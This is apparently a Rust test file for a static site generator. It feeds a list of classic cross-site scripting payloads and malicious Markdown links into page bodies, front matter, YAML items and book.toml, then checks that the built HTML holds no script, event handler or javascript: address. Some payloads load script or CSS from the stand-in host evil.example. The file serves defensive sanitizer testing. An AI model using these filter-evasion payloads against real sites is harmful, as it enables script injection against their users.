//! Safe HTML: classic cross-site scripting payloads placed in a page body
//! (as HTML blocks and as inline HTML), in Markdown links, in front matter,
//! in YAML items and in book.toml. The built site must hold no script but
//! the theme's own, no event handler, no script address, while the HTML
//! an author may use (tables, details, abbr) survives.

use std::path::Path;

use crate::support::{Fixture, read_tree};

/// Classic payloads (OWASP filter-evasion list and friends).
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">a</a>",
    "<a href=\"jav\tascript:alert(1)\">a</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">a</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">a</a>",
    "<a href=\"javascript&colon;alert(1)\">a</a>",
    "<a href=\" &#14;  javascript:alert(1)\">a</a>",
    "<a href=\"vbscript:msgbox(1)\">a</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"d\">",
    "<a href=\"#\" onmouseover=\"alert(1)\">a</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=\"stylesheet\" href=\"http://evil.example/x.css\">",
    "<base href=\"javascript:alert(1)//\">",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<video><source onerror=alert(1)></video>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<a title=\"\" onclick=\"alert(1)\" href=\"#\">q</a>",
];

/// Markdown links and images with script addresses.
const LINKS: &[&str] = &[
    "[a](javascript:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#x6A;avascript:alert(1))",
    "[a](java&#9;script:alert(1))",
    "[a]( javascript:alert(1) \"t\")",
    "[a](vbscript:msgbox(1))",
    "[a](<data:text/html,<script>alert(1)</script>>)",
    "![i](javascript:alert(1))",
    "![i](<data:image/svg+xml,<svg onload=alert(1)>>)",
    "<javascript:alert(1)>",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[a](https://example.org \"x\\\" onmouseover=\\\"alert(1)\")",
    "## Rubrik {onclick=alert(1)}",
];

const ALLOWED: &str = "<table><tr><th>Ålder</th><td>12</td></tr></table>\n\n\
<details>\n<summary>Mer om trygghet</summary>\n\nText *inuti*.\n\n</details>\n\n\
Text med <abbr title=\"Statistiska centralbyrån\">SCB</abbr>.\n";

fn page(payloads: &[&str], links: &[&str]) -> String {
    let mut s = String::from(
        "---\ntitle: \"<script>alert('titel')</script>\"\nsummary: '\" onmouseover=\"alert(1)'\n---\n\n",
    );
    s.push_str(ALLOWED);
    for p in payloads {
        s.push_str(&format!("\n{p}\n\nFöre {p} efter.\n"));
    }
    for l in links {
        s.push_str(&format!("\n{l}\n"));
    }
    s
}

const ITEMS: &str = "findings:
  - id: f-xss
    title: \"<script>alert(1)</script>\"
    need_area: trygghet
    source: interview
    text: |
      <img src=x onerror=alert(1)> och [länk](javascript:alert(1))
quotes:
  - id: q-xss
    text: \"\\\"><img src=x onerror=alert(1)>\"
    need_area: trygghet
    context: \"<svg onload=alert(1)>\"
actors:
  - id: a-xss
    name: \"<img src=x onerror=alert(1)>\"
    kind: civil_society
    does: \"' onmouseover='alert(1)\"
places:
  - id: pl-xss
    name: \"\\\"><iframe src=javascript:alert(1)>\"
    kind: square
";

/// One HTML tag: lowercased name and attributes (lowercased name, value).
#[derive(Debug)]
struct TagSeen {
    name: String,
    attrs: Vec<(String, String)>,
    /// The text up to the closing tag, for `<script>` and `<style>`.
    body: String,
}

/// Read the tags of `html` the way a browser's tokenizer does (enough for
/// generated pages: comments, quoted and unquoted attribute values).
fn tags(html: &str) -> Vec<TagSeen> {
    let b = html.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i..].starts_with(b"<!--") {
            i = b[i..]
                .windows(3)
                .position(|w| w == b"-->")
                .map_or(b.len(), |e| i + e + 3);
            continue;
        }
        if b[i] != b'<' || !b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
            i += 1;
            continue;
        }
        i += 1;
        let start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && b[i] != b'>' && b[i] != b'/' {
            i += 1;
        }
        let name = html[start..i].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/') {
                i += 1;
            }
            if i >= b.len() || b[i] == b'>' {
                i += 1;
                break;
            }
            let s = i;
            while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'=' | b'>') {
                i += 1;
            }
            let attr = html[s..i].to_ascii_lowercase();
            while i < b.len() && b[i].is_ascii_whitespace() {
                i += 1;
            }
            let mut value = String::new();
            if i < b.len() && b[i] == b'=' {
                i += 1;
                while i < b.len() && b[i].is_ascii_whitespace() {
                    i += 1;
                }
                if i < b.len() && (b[i] == b'"' || b[i] == b'\'') {
                    let q = b[i];
                    let e = html[i + 1..].find(q as char).map_or(b.len(), |e| i + 1 + e);
                    value = html[i + 1..e].to_string();
                    i = e + 1;
                } else {
                    let s = i;
                    while i < b.len() && !b[i].is_ascii_whitespace() && b[i] != b'>' {
                        i += 1;
                    }
                    value = html[s..i].to_string();
                }
            }
            attrs.push((attr, value));
        }
        let mut body = String::new();
        if name == "script" || name == "style" {
            let end = html[i.min(b.len())..]
                .to_ascii_lowercase()
                .find(&format!("</{name}"))
                .map_or(b.len(), |e| i + e);
            body = html[i.min(end)..end].to_string();
        }
        out.push(TagSeen { name, attrs, body });
    }
    out
}

/// An attribute value as the browser reads a URL from it: character
/// references decoded, tabs and line breaks dropped, leading spaces and
/// control characters trimmed, lowercased.
fn as_url(value: &str) -> String {
    let mut s = String::new();
    let mut rest = value;
    while let Some(amp) = rest.find('&') {
        s.push_str(&rest[..amp]);
        rest = &rest[amp + 1..];
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '#'))
            .unwrap_or(rest.len());
        let name = &rest[..end];
        let decoded = if let Some(n) = name.strip_prefix("#x").or_else(|| name.strip_prefix("#X")) {
            u32::from_str_radix(n, 16).ok().and_then(char::from_u32)
        } else if let Some(n) = name.strip_prefix('#') {
            n.parse().ok().and_then(char::from_u32)
        } else {
            match name.to_ascii_lowercase().as_str() {
                "colon" => Some(':'),
                "tab" => Some('\t'),
                "newline" => Some('\n'),
                "amp" => Some('&'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                "lt" => Some('<'),
                "gt" => Some('>'),
                _ => None,
            }
        };
        match decoded {
            Some(c) => {
                s.push(c);
                rest = rest[end..].strip_prefix(';').unwrap_or(&rest[end..]);
            }
            None => s.push('&'),
        }
    }
    s.push_str(rest);
    s.chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect::<String>()
        .trim_start_matches(|c: char| c <= ' ')
        .to_ascii_lowercase()
}

const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "srcset",
    "background",
    "cite",
    "ping",
];

/// The theme's stylesheet as the 404 page carries it inline.
fn theme_404_css() -> String {
    std::fs::read_to_string(crate::support::repo().join("themes/default/static/style.css"))
        .unwrap()
        .replace("</", "<\\/")
}

/// The body of the theme's 404 script, from its template.
fn theme_404_script() -> String {
    let tpl =
        std::fs::read_to_string(crate::support::repo().join("themes/default/templates/404.html"))
            .unwrap();
    let open = tpl.find("<script").unwrap();
    let start = open + tpl[open..].find('>').unwrap() + 1;
    let end = tpl.find("</script>").unwrap();
    tpl[start..end].to_string()
}

/// Everything in one built page that could run script.
fn unsafe_parts(file: &str, html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut theme_scripts = 0;
    for t in tags(html) {
        let attr = |n: &str| {
            t.attrs
                .iter()
                .find(|(a, _)| a == n)
                .map(|(_, v)| v.as_str())
        };
        match t.name.as_str() {
            // The 404 page's own stylesheet and root-finding script, exactly
            // as the theme writes them (it is shown at any depth).
            "style" if file == "404.html" && t.attrs.is_empty() && t.body == theme_404_css() => {}
            "script" if file == "404.html" && t.body == theme_404_script() => {
                theme_scripts += 1;
            }
            "script" => {
                let src = attr("src").unwrap_or("");
                let theirs = src.trim_start_matches("../") == "search.js"
                    && t.attrs.len() == 2
                    && t.body.is_empty();
                if theirs {
                    theme_scripts += 1;
                } else {
                    found.push(format!("{file}: a script: {t:?}"));
                }
            }
            "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "base" | "style"
            | "math" | "template" | "textarea" | "select" | "xmp" | "noscript" => {
                found.push(format!("{file}: <{}>", t.name))
            }
            "form" if attr("id") != Some("search-form") || attr("action") != Some("#") => {
                found.push(format!("{file}: a form: {t:?}"))
            }
            "meta" if attr("http-equiv").is_some() => found.push(format!("{file}: {t:?}")),
            // The canonical link of a public page names the fixture's
            // base_url (it is not a request).
            "link"
                if attr("rel") == Some("canonical")
                    && attr("href").is_some_and(|h| {
                        h.starts_with("https://intranat.example.org/testby/")
                            && !h.contains(['"', '<', '>', ' '])
                    }) => {}
            "link"
                if attr("href").is_none_or(|h| {
                    !matches!(h.trim_start_matches("../"), "style.css" | "favicon.svg")
                }) =>
            {
                found.push(format!("{file}: {t:?}"))
            }
            _ => {}
        }
        for (a, v) in &t.attrs {
            if a.starts_with("on") {
                found.push(format!("{file}: an event handler {a}= on <{}>", t.name));
            }
            let url = as_url(v);
            let script_url = ["javascript:", "vbscript:", "data:"]
                .iter()
                .any(|s| url.starts_with(s));
            if URL_ATTRS.contains(&a.as_str()) && script_url {
                found.push(format!("{file}: {a}=\"{v}\" on <{}>", t.name));
            }
            if a == "style" && (url.contains("javascript:") || url.contains("expression(")) {
                found.push(format!("{file}: style=\"{v}\""));
            }
            if a == "srcdoc" {
                found.push(format!("{file}: srcdoc on <{}>", t.name));
            }
        }
    }
    let all_scripts = html.to_ascii_lowercase().matches("<script").count();
    if all_scripts != theme_scripts {
        found.push(format!(
            "{file}: {all_scripts} \"<script\" in the text, {theme_scripts} of them the theme's"
        ));
    }
    found
}

fn site_problems(out: &Path) -> Vec<String> {
    let mut found = Vec::new();
    for (file, bytes) in read_tree(out) {
        if file.ends_with(".html") {
            found.extend(unsafe_parts(&file, &String::from_utf8_lossy(&bytes)));
        }
    }
    found
}

fn with_payloads() -> Fixture {
    let f = Fixture::copy("basic");
    f.write("content/kartlaggning/xss.md", page(PAYLOADS, LINKS));
    f.write("content/kartlaggning/xss.yaml", ITEMS);
    let toml = std::fs::read_to_string(f.path("book.toml"))
        .unwrap()
        .replace(
            "description = \"En liten testrapport.\"",
            "description = \"\\\"><script>alert(1)</script>\"",
        );
    assert!(toml.contains("<script>"));
    f.write("book.toml", toml);
    f
}

#[test]
fn the_payload_lists_are_long_enough() {
    assert!(PAYLOADS.len() >= 45, "{}", PAYLOADS.len());
    assert!(LINKS.len() >= 14);
}

#[test]
fn the_checker_finds_what_it_looks_for() {
    // Each payload, written straight into a page, is caught: the test
    // below cannot pass by looking at the wrong thing.
    let mut missed = Vec::new();
    for p in PAYLOADS.iter().filter(|p| !p.starts_with("<!--")) {
        if unsafe_parts("x.html", p).is_empty() {
            missed.push(*p);
        }
    }
    assert!(missed.is_empty(), "the checker misses {missed:#?}");
    assert!(
        unsafe_parts(
            "x.html",
            "<script src=\"../search.js\" defer></script><p>ok</p>"
        )
        .is_empty()
    );
}

#[test]
fn payloads_everywhere_build_a_site_without_script() {
    let f = with_payloads();
    let r = f.build(&[]);
    r.ok();
    assert!(!r.stderr.contains("panicked"), "{}", r.stderr);
    let problems = site_problems(&f.out());
    assert!(problems.is_empty(), "{problems:#?}");

    let page = std::fs::read_to_string(f.out().join("kartlaggning/xss.html")).unwrap();
    // What an author may use survives.
    assert!(
        page.contains("<table><tbody><tr><th>Ålder</th><td>12</td></tr></tbody></table>"),
        "{page}"
    );
    assert!(
        page.contains(
            "<details>\n<summary>Mer om trygghet</summary>\n<p>Text <em>inuti</em>.</p>\n</details>"
        ),
        "{page}"
    );
    assert!(page.contains("<abbr title=\"Statistiska centralbyrån\">SCB</abbr>"));
    // Titles from front matter and YAML are text, not markup.
    assert!(page.contains("&lt;script&gt;alert("), "{page}");
    let findings = std::fs::read_to_string(f.out().join("findings.html")).unwrap();
    assert!(
        findings.contains("&lt;script&gt;alert(1)&lt;&#x2F;script&gt;")
            || findings.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{findings}"
    );
    let actors = std::fs::read_to_string(f.out().join("actors.html")).unwrap();
    assert!(
        actors.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "{actors}"
    );

    // Every removed script, handler and address is reported, located.
    for line in [
        "content/kartlaggning/xss.md:17:1: warning: <script> is removed",
        "content/kartlaggning/xss.md:25:12: warning: the event handler onerror= is removed",
        "content/kartlaggning/xss.md:27:17: warning: the event handler onerror= is removed",
        "content/kartlaggning/xss.md:53:10: warning: a javascript: address is removed",
        "warning: a javascript: link is removed",
    ] {
        assert!(
            r.stderr.contains(line),
            "stderr lacks {line:?}:\n{}",
            r.stderr
        );
    }
}

#[test]
fn payloads_are_harmless_in_a_public_build_too() {
    let f = with_payloads();
    f.build(&["--audience", "public"]).ok();
    let problems = site_problems(&f.out());
    assert!(problems.is_empty(), "{problems:#?}");
}

#[test]
fn allow_raw_html_keeps_html_as_written() {
    let f = Fixture::copy("basic");
    let toml = std::fs::read_to_string(f.path("book.toml"))
        .unwrap()
        .replace("[build]\n", "[build]\nallow_raw_html = true\n");
    f.write("book.toml", toml);
    f.write(
        "content/kartlaggning/film.md",
        "---\ntitle: Film\n---\n\n<video controls src=\"film.mp4\" class=\"x\"></video>\n\n[a](javascript:alert(1))\n",
    );
    let r = f.build(&[]);
    r.ok();
    let page = std::fs::read_to_string(f.out().join("kartlaggning/film.html")).unwrap();
    assert!(
        page.contains("<video controls src=\"film.mp4\" class=\"x\"></video>"),
        "{page}"
    );
    // Markdown links with script addresses go even for trusted teams.
    assert!(!page.contains("javascript:"), "{page}");
    assert!(
        r.stderr
            .contains("content/kartlaggning/film.md:7:1: warning: a javascript: link is removed"),
        "{}",
        r.stderr
    );
}

#[test]
fn a_script_address_in_book_toml_is_refused() {
    let f = Fixture::copy("basic");
    let toml = std::fs::read_to_string(f.path("book.toml"))
        .unwrap()
        .replace(
            "base_url = \"https://intranat.example.org/testby/\"",
            "base_url = \"javascript:alert(1)\"",
        );
    f.write("book.toml", toml);
    let r = f.build(&[]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("book.toml:17:1: error: base_url must be a web address"),
        "{}",
        r.stderr
    );
}
